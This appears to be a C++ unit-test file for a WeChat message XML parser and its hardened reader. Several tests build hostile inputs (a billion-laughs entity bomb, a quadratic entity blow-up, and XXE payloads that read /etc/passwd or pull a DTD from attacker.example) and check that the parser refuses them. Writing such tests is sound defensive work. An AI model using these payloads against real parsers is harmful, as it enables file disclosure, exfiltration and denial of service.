// SPDX-License-Identifier: MIT
#include "server/wechat/MessageParser.h"

#include <random>

#include <gtest/gtest.h>

#include "TestVectors.h"
#include "server/wechat/SafeXmlReader.h"

using namespace nextevent::server::wechat;
namespace tv = nextevent::server::wechat::testvectors;

namespace
{
const std::string kCommon = "<ToUserName><![CDATA[gh_abc]]></ToUserName>"
                            "<FromUserName><![CDATA[oUser123]]></FromUserName>"
                            "<CreateTime>1700000000</CreateTime>";

std::string message(const std::string &body)
{
    return "<xml>" + kCommon + body + "</xml>";
}

std::string event(const std::string &name, const std::string &extra = {})
{
    return message("<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[" + name + "]]></Event>" + extra);
}

InboundMessage parseOk(const std::string &xml)
{
    Result<InboundMessage> parsed = parseInboundMessage(xml);
    if (!parsed)
        ADD_FAILURE() << parsed.error().message() << "\n" << xml;
    return parsed ? parsed.value() : InboundMessage{};
}

WeChatErrorCode parseError(std::string_view xml, const XmlLimits &limits = {})
{
    const Result<InboundMessage> parsed = parseInboundMessage(xml, limits);
    EXPECT_FALSE(parsed.ok()) << "accepted: " << xml.substr(0, 200);
    return parsed.ok() ? WeChatErrorCode::InvalidReply : parsed.error().code();
}

std::string billionLaughs()
{
    std::string doc = "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY lol \"lol\">";
    doc += "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">";
    for (int i = 2; i <= 9; ++i)
    {
        const std::string previous = "&lol" + std::to_string(i - 1) + ";";
        doc += "<!ENTITY lol" + std::to_string(i) + " \"";
        for (int j = 0; j < 10; ++j)
            doc += previous;
        doc += "\">";
    }
    doc += "]>" + message("<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId>");
    return doc;
}
} // namespace

TEST(MessageParser, ParsesPublishedDecryptedTextMessage)
{
    const InboundMessage m = parseOk(std::string(tv::kMessage));
    EXPECT_EQ(m.toUserName, "gh_10f6c3c3ac5a");
    EXPECT_EQ(m.fromUserName, "oyORnuP8q7ou2gfYjqLzSIWZf0rs");
    EXPECT_EQ(m.createTime, 1409735668);
    EXPECT_EQ(m.msgType, "text");
    EXPECT_EQ(m.kind, MessageKind::Text);
    EXPECT_EQ(m.content, "abcdteT");
    ASSERT_TRUE(m.msgId.has_value());
    EXPECT_EQ(*m.msgId, 6054768590064713728ULL);
    EXPECT_EQ(m.eventKind, EventKind::None);
}

TEST(MessageParser, ParsesOrdinaryMessageTypes)
{
    const InboundMessage text =
        parseOk(message("<MsgType><![CDATA[text]]></MsgType><Content><![CDATA[  你好\n ]]></Content>"
                        "<MsgId>18446744073709551615</MsgId><MsgDataId>2247</MsgDataId><Idx>1</Idx>"));
    EXPECT_EQ(text.content, "  你好\n "); // nothing trimmed inside CDATA
    EXPECT_EQ(text.msgId, 18446744073709551615ULL);
    EXPECT_EQ(text.msgDataId, "2247");
    EXPECT_EQ(text.idx, "1");

    const InboundMessage image =
        parseOk(message("<MsgType><![CDATA[image]]></MsgType><PicUrl><![CDATA[http://p/1.jpg]]>"
                        "</PicUrl><MediaId><![CDATA[media_1]]></MediaId><MsgId>11</MsgId>"));
    EXPECT_EQ(image.kind, MessageKind::Image);
    EXPECT_EQ(image.picUrl, "http://p/1.jpg");
    EXPECT_EQ(image.mediaId, "media_1");

    const InboundMessage voice =
        parseOk(message("<MsgType><![CDATA[voice]]></MsgType><MediaId><![CDATA[v1]]></MediaId>"
                        "<Format><![CDATA[amr]]></Format><Recognition><![CDATA[签到]]>"
                        "</Recognition><MsgId>12</MsgId>"));
    EXPECT_EQ(voice.kind, MessageKind::Voice);
    EXPECT_EQ(voice.format, "amr");
    EXPECT_EQ(voice.recognition, "签到");

    for (const std::string type : {"video", "shortvideo"})
    {
        const InboundMessage video =
            parseOk(message("<MsgType><![CDATA[" + type +
                            "]]></MsgType><MediaId><![CDATA[m]]>"
                            "</MediaId><ThumbMediaId><![CDATA[t]]></ThumbMediaId><MsgId>13</MsgId>"));
        EXPECT_EQ(video.kind, type == "video" ? MessageKind::Video : MessageKind::ShortVideo);
        EXPECT_EQ(video.thumbMediaId, "t");
    }

    const InboundMessage location =
        parseOk(message("<MsgType><![CDATA[location]]></MsgType><Location_X>23.134521"
                        "</Location_X><Location_Y>113.358803</Location_Y><Scale>20</Scale>"
                        "<Label><![CDATA[位置信息]]></Label><MsgId>14</MsgId>"));
    EXPECT_EQ(location.kind, MessageKind::Location);
    ASSERT_TRUE(location.locationX && location.locationY && location.scale);
    EXPECT_DOUBLE_EQ(*location.locationX, 23.134521);
    EXPECT_DOUBLE_EQ(*location.locationY, 113.358803);
    EXPECT_EQ(*location.scale, 20);
    EXPECT_EQ(location.label, "位置信息");

    const InboundMessage link =
        parseOk(message("<MsgType><![CDATA[link]]></MsgType><Title><![CDATA[T]]></Title>"
                        "<Description><![CDATA[D]]></Description><Url><![CDATA[https://u/?a=1&b=2]]>"
                        "</Url><MsgId>15</MsgId>"));
    EXPECT_EQ(link.kind, MessageKind::Link);
    EXPECT_EQ(link.title, "T");
    EXPECT_EQ(link.description, "D");
    EXPECT_EQ(link.url, "https://u/?a=1&b=2");
}

TEST(MessageParser, ParsesSubscribeWithAndWithoutQrScene)
{
    const InboundMessage plain = parseOk(event("subscribe"));
    EXPECT_EQ(plain.kind, MessageKind::Event);
    EXPECT_EQ(plain.eventKind, EventKind::Subscribe);
    EXPECT_FALSE(plain.msgId.has_value());
    EXPECT_FALSE(plain.isQrSubscribe());
    EXPECT_EQ(plain.qrSceneValue(), std::nullopt);

    const InboundMessage emptyKey = parseOk(event("subscribe", "<EventKey><![CDATA[]]></EventKey>"));
    EXPECT_FALSE(emptyKey.isQrSubscribe());

    const InboundMessage qr = parseOk(event("subscribe",
                                            "<EventKey><![CDATA[qrscene_checkin_42]]></EventKey>"
                                            "<Ticket><![CDATA[gQH47joAAAAAAAAAASxodHRw]]></Ticket>"));
    EXPECT_TRUE(qr.isQrSubscribe());
    EXPECT_EQ(qr.eventKey, "qrscene_checkin_42");
    EXPECT_EQ(qr.qrSceneValue(), "checkin_42");
    EXPECT_EQ(qr.ticket, "gQH47joAAAAAAAAAASxodHRw");

    // A subscribe whose EventKey lacks the prefix is not a QR follow.
    const InboundMessage other =
        parseOk(event("subscribe", "<EventKey><![CDATA[last_trade_no_4200]]></EventKey>"));
    EXPECT_FALSE(other.isQrSubscribe());
    EXPECT_EQ(other.qrSceneValue(), std::nullopt);
}

TEST(MessageParser, ParsesOtherEvents)
{
    const InboundMessage scan =
        parseOk(event("SCAN", "<EventKey><![CDATA[123]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket>"));
    EXPECT_EQ(scan.eventKind, EventKind::Scan);
    EXPECT_EQ(scan.qrSceneValue(), "123"); // no prefix to strip for SCAN
    EXPECT_FALSE(scan.isQrSubscribe());

    // "qrscene_" is only stripped for subscribe.
    EXPECT_EQ(parseOk(event("SCAN", "<EventKey><![CDATA[qrscene_7]]></EventKey>")).qrSceneValue(),
              "qrscene_7");

    EXPECT_EQ(parseOk(event("unsubscribe")).eventKind, EventKind::Unsubscribe);

    const InboundMessage click = parseOk(event("CLICK", "<EventKey><![CDATA[MENU_CHECKIN]]></EventKey>"));
    EXPECT_EQ(click.eventKind, EventKind::Click);
    EXPECT_EQ(click.eventKey, "MENU_CHECKIN");
    EXPECT_EQ(click.qrSceneValue(), std::nullopt);

    const InboundMessage view =
        parseOk(event("VIEW", "<EventKey><![CDATA[https://e.example/x]]></EventKey><MenuId>208</MenuId>"));
    EXPECT_EQ(view.eventKind, EventKind::View);
    EXPECT_EQ(view.eventKey, "https://e.example/x");
    EXPECT_EQ(view.menuId, "208");

    const InboundMessage location = parseOk(event("LOCATION",
                                                  "<Latitude>23.137466</Latitude><Longitude>113.352425"
                                                  "</Longitude><Precision>119.385040</Precision>"));
    EXPECT_EQ(location.eventKind, EventKind::Location);
    ASSERT_TRUE(location.latitude && location.longitude && location.precision);
    EXPECT_DOUBLE_EQ(*location.latitude, 23.137466);
    EXPECT_DOUBLE_EQ(*location.longitude, 113.352425);
    EXPECT_DOUBLE_EQ(*location.precision, 119.38504);

    const InboundMessage job = parseOk(event("TEMPLATESENDJOBFINISH",
                                             "<MsgID>200163836</MsgID>"
                                             "<Status><![CDATA[failed: system failed]]></Status>"));
    EXPECT_EQ(job.eventKind, EventKind::TemplateSendJobFinish);
    EXPECT_EQ(job.templateMsgId, 200163836u);
    EXPECT_FALSE(job.msgId.has_value()); // MsgID (capital D) is not MsgId
    EXPECT_EQ(job.status, "failed: system failed");

    // Event names are case-sensitive.
    EXPECT_EQ(parseOk(event("scan")).eventKind, EventKind::Unknown);
}

TEST(MessageParser, UnknownTypesAreKeptNotRejected)
{
    const InboundMessage unknown =
        parseOk(message("<MsgType><![CDATA[miniprogrampage]]></MsgType><MsgId>9</MsgId>"
                        "<AppId><![CDATA[wxapp]]></AppId>"));
    EXPECT_EQ(unknown.kind, MessageKind::Unknown);
    EXPECT_EQ(unknown.msgType, "miniprogrampage");
    EXPECT_EQ(unknown.field("AppId"), "wxapp");

    const InboundMessage unknownEvent =
        parseOk(event("kf_create_session", "<KfAccount><![CDATA[k@x]]></KfAccount>"));
    EXPECT_EQ(unknownEvent.kind, MessageKind::Event);
    EXPECT_EQ(unknownEvent.eventKind, EventKind::Unknown);
    EXPECT_EQ(unknownEvent.event, "kf_create_session");
}

TEST(MessageParser, OrderDoesNotMatterAndNestedFieldsAreKept)
{
    const InboundMessage m = parseOk(
        "<xml>\n  <MsgType><![CDATA[event]]></MsgType>\n  <Event><![CDATA[scancode_waitmsg]]></Event>\n"
        "  <CreateTime>1408090606</CreateTime>\n  <FromUserName><![CDATA[oUser]]></FromUserName>\n"
        "  "
        "<ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType><ScanResult><![CDATA[2]]></ScanResult></"
        "ScanCodeInfo>\n"
        "  <ToUserName><![CDATA[gh_abc]]></ToUserName>\n  <Unexpected attr=\"1\">x</Unexpected>\n</xml>\n");
    EXPECT_EQ(m.toUserName, "gh_abc");
    EXPECT_EQ(m.createTime, 1408090606);
    EXPECT_EQ(m.field("ScanCodeInfo/ScanResult"), "2");
    EXPECT_EQ(m.field("ScanCodeInfo/ScanType"), "qrcode");
    EXPECT_EQ(m.field("ScanCodeInfo"), std::nullopt); // an element with children is not a leaf
    EXPECT_EQ(m.field("Unexpected"), "x");
    EXPECT_EQ(m.field("Missing"), std::nullopt);
}

TEST(MessageParser, DecodesPredefinedEntitiesAndCharacterReferences)
{
    const InboundMessage m = parseOk(
        message("<MsgType>text</MsgType><Content>a &lt; b &amp;&#x41;&#66;</Content><MsgId>1</MsgId>"));
    EXPECT_EQ(m.content, "a < b &AB");
}

TEST(MessageParser, RejectsMissingOrMalformedRequiredFields)
{
    EXPECT_EQ(
        parseError(
            "<xml><FromUserName>u</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>"),
        WeChatErrorCode::InvalidXml);
    EXPECT_EQ(
        parseError(
            "<xml><ToUserName>g</ToUserName><FromUserName>u</FromUserName><MsgType>text</MsgType></xml>"),
        WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("")), WeChatErrorCode::InvalidXml); // no MsgType
    EXPECT_EQ(parseError(
                  "<xml><ToUserName>g</ToUserName><FromUserName>u</FromUserName><CreateTime>soon</CreateTime>"
                  "<MsgType>text</MsgType></xml>"),
              WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><MsgId>12ab</MsgId>")), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><MsgId>-1</MsgId>")), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><MsgId>18446744073709551616</MsgId>")),
              WeChatErrorCode::InvalidXml); // 2^64 overflows
}

TEST(MessageParser, RejectsMalformedDocuments)
{
    EXPECT_EQ(parseError(""), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError("not xml"), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError("<xml><ToUserName>g</ToUserName>"), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError("<root>" + kCommon + "<MsgType>text</MsgType></root>"), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><Content>a</Content>") + "<xml/>"),
              WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><Content>&nbsp;</Content>")),
              WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><Content><![CDATA[open")),
              WeChatErrorCode::InvalidXml);
    // A repeated top-level element could make two readers see different values: refuse it.
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><Content>a</Content><Content>b</Content>")),
              WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><FromUserName>other</FromUserName>")),
              WeChatErrorCode::InvalidXml);
}

TEST(MessageParser, RandomTruncationsAndMutationsNeverCrash)
{
    const std::string valid(tv::kMessage);
    for (std::size_t length = 0; length < valid.size(); ++length)
        EXPECT_FALSE(parseInboundMessage(valid.substr(0, length)).ok()) << length;
    std::mt19937 random(7);
    for (int i = 0; i < 2000; ++i)
    {
        std::string mutated = valid;
        for (int j = 0; j < 3; ++j)
            mutated[random() % mutated.size()] = static_cast<char>(random() & 0xFF);
        EXPECT_NO_THROW((void)parseInboundMessage(mutated).ok());
    }
}

TEST(SafeXmlReader, EnforcesSizeLimitBeforeParsing)
{
    const std::string filler(64 * 1024, 'a');
    const std::string big = message("<MsgType>text</MsgType><Content>" + filler + "</Content>");
    EXPECT_EQ(parseError(big), WeChatErrorCode::XmlTooLarge);

    XmlLimits limits;
    limits.maxBytes = big.size();
    EXPECT_TRUE(parseInboundMessage(big, limits).ok());
    limits.maxBytes = big.size() - 1;
    EXPECT_EQ(parseError(big, limits), WeChatErrorCode::XmlTooLarge);

    // Even garbage over the limit is reported as too large, without being looked at.
    EXPECT_EQ(SafeXmlReader::read(std::string(70000, '<')).error().code(), WeChatErrorCode::XmlTooLarge);
    EXPECT_EQ(SafeXmlReader::read(std::string(70000, '<')).error().toError().code(),
              nextevent::ErrorCode::PayloadTooLarge);
}

TEST(SafeXmlReader, EnforcesDepthAndElementLimits)
{
    std::string deep;
    for (int i = 0; i < 20; ++i)
        deep += "<a>";
    deep += "x";
    for (int i = 0; i < 20; ++i)
        deep += "</a>";
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType>" + deep)), WeChatErrorCode::InvalidXml);

    std::string many;
    for (int i = 0; i < 600; ++i)
        many += "<i>" + std::to_string(i) + "</i>";
    EXPECT_EQ(parseError(message("<MsgType>text</MsgType><List>" + many + "</List>")),
              WeChatErrorCode::InvalidXml);
}

// The entity expansions below would take gigabytes (billion laughs) or tens of megabytes (quadratic
// blow-up) if performed; both documents must be refused as invalid XML.
TEST(SafeXmlReader, RefusesBillionLaughs)
{
    const std::string bomb = billionLaughs();
    ASSERT_LT(bomb.size(), 2000u);
    EXPECT_EQ(parseError(bomb), WeChatErrorCode::InvalidXml);
}

TEST(SafeXmlReader, RefusesQuadraticBlowupEntity)
{
    const std::string big(20000, 'A');
    std::string refs;
    for (int i = 0; i < 2000; ++i)
        refs += "&a;";
    const std::string doc = "<!DOCTYPE xml [<!ENTITY a \"" + big + "\">]>" +
                            message("<MsgType>text</MsgType><Content>" + refs + "</Content>");
    EXPECT_EQ(parseError(doc), WeChatErrorCode::InvalidXml);
}

TEST(SafeXmlReader, RefusesExternalEntitiesAndDtds)
{
    // Classic XXE: file disclosure through an external general entity.
    EXPECT_EQ(
        parseError("<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" +
                   message("<MsgType>text</MsgType><Content>&xxe;</Content>")),
        WeChatErrorCode::InvalidXml);
    // External parameter entity (out-of-band exfiltration).
    EXPECT_EQ(parseError("<!DOCTYPE xml [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]>" +
                         message("<MsgType>text</MsgType>")),
              WeChatErrorCode::InvalidXml);
    // External DTD subset only.
    EXPECT_EQ(parseError("<!DOCTYPE xml SYSTEM \"http://attacker.example/x.dtd\">" +
                         message("<MsgType>text</MsgType>")),
              WeChatErrorCode::InvalidXml);
    // A harmless-looking internal DTD is refused too: no declarations at all.
    EXPECT_EQ(parseError("<!DOCTYPE xml>" + message("<MsgType>text</MsgType>")), WeChatErrorCode::InvalidXml);
    EXPECT_EQ(parseError("<!doctype xml>" + message("<MsgType>text</MsgType>")), WeChatErrorCode::InvalidXml);
    // A DOCTYPE after a comment and a PI is still found.
    EXPECT_EQ(parseError("<?xml version=\"1.0\"?><!-- hi --><!DOCTYPE xml [<!ENTITY e \"x\">]>" +
                         message("<MsgType>text</MsgType><Content>&e;</Content>")),
              WeChatErrorCode::InvalidXml);
}

TEST(SafeXmlReader, RefusesUtf16DocumentsThatHideMarkupFromTheScan)
{
    const std::string ascii = "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" +
                              message("<MsgType>text</MsgType><Content>&xxe;</Content>");
    std::string utf16 = "\xFF\xFE"; // UTF-16LE BOM
    for (const char c : ascii)
    {
        utf16.push_back(c);
        utf16.push_back('\0');
    }
    EXPECT_EQ(parseError(utf16), WeChatErrorCode::InvalidXml);
    EXPECT_TRUE(SafeXmlReader::hasForbiddenMarkup(utf16));
}

TEST(SafeXmlReader, DeclarationTextInsideCdataOrCommentsIsJustText)
{
    const InboundMessage m =
        parseOk("<!-- <!DOCTYPE in a comment -->" +
                message("<MsgType>text</MsgType><Content><![CDATA[<!DOCTYPE x [<!ENTITY a \"b\">]>"
                        "&a;]]></Content><MsgId>1</MsgId>"));
    EXPECT_EQ(m.content, "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;");
    EXPECT_FALSE(SafeXmlReader::hasForbiddenMarkup("<xml><![CDATA[<!ENTITY]]></xml>"));
    EXPECT_TRUE(SafeXmlReader::hasForbiddenMarkup("<xml><![CDATA[unterminated</xml>"));
    EXPECT_TRUE(SafeXmlReader::hasForbiddenMarkup("<xml><!-- unterminated</xml>"));
    EXPECT_TRUE(SafeXmlReader::hasForbiddenMarkup("<xml><!ELEMENT x ANY></xml>"));
}

TEST(SafeXmlReader, IgnoresDeclaredEncoding)
{
    // Forced to UTF-8: a document claiming another encoding is read as UTF-8 bytes.
    const InboundMessage m =
        parseOk("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" +
                message("<MsgType>text</MsgType><Content>签到</Content><MsgId>1</MsgId>"));
    EXPECT_EQ(m.content, "签到");
}

TEST(EncryptedEnvelope, ParsesSafeAndCompatibleBodies)
{
    const std::string safe =
        "<xml>\n<ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n<Encrypt><![CDATA[" +
        std::string(tv::kEncrypt) + "]]></Encrypt>\n</xml>";
    const Result<EncryptedEnvelope> envelope = parseEncryptedEnvelope(safe);
    ASSERT_TRUE(envelope.ok()) << envelope.error().message();
    EXPECT_EQ(envelope->toUserName, "gh_10f6c3c3ac5a");
    EXPECT_EQ(envelope->encrypt, tv::kEncrypt);

    // Compatible mode: the plain fields and the ciphertext side by side.
    const std::string compatible =
        message("<MsgType>text</MsgType><Content>hi</Content><MsgId>5</MsgId><Encrypt>"
                "<![CDATA[" +
                std::string(tv::kEncrypt) + "]]></Encrypt>");
    EXPECT_EQ(parseEncryptedEnvelope(compatible)->encrypt, tv::kEncrypt);
    EXPECT_EQ(parseOk(compatible).encrypt, tv::kEncrypt);

    EXPECT_FALSE(parseEncryptedEnvelope("<xml><ToUserName>g</ToUserName></xml>").ok());
    EXPECT_FALSE(parseEncryptedEnvelope("<xml><Encrypt></Encrypt></xml>").ok());
    EXPECT_FALSE(parseEncryptedEnvelope("<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>").ok());
    EXPECT_FALSE(
        parseEncryptedEnvelope(
            "<!DOCTYPE xml [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><xml><Encrypt>&e;</Encrypt></xml>")
            .ok());
}
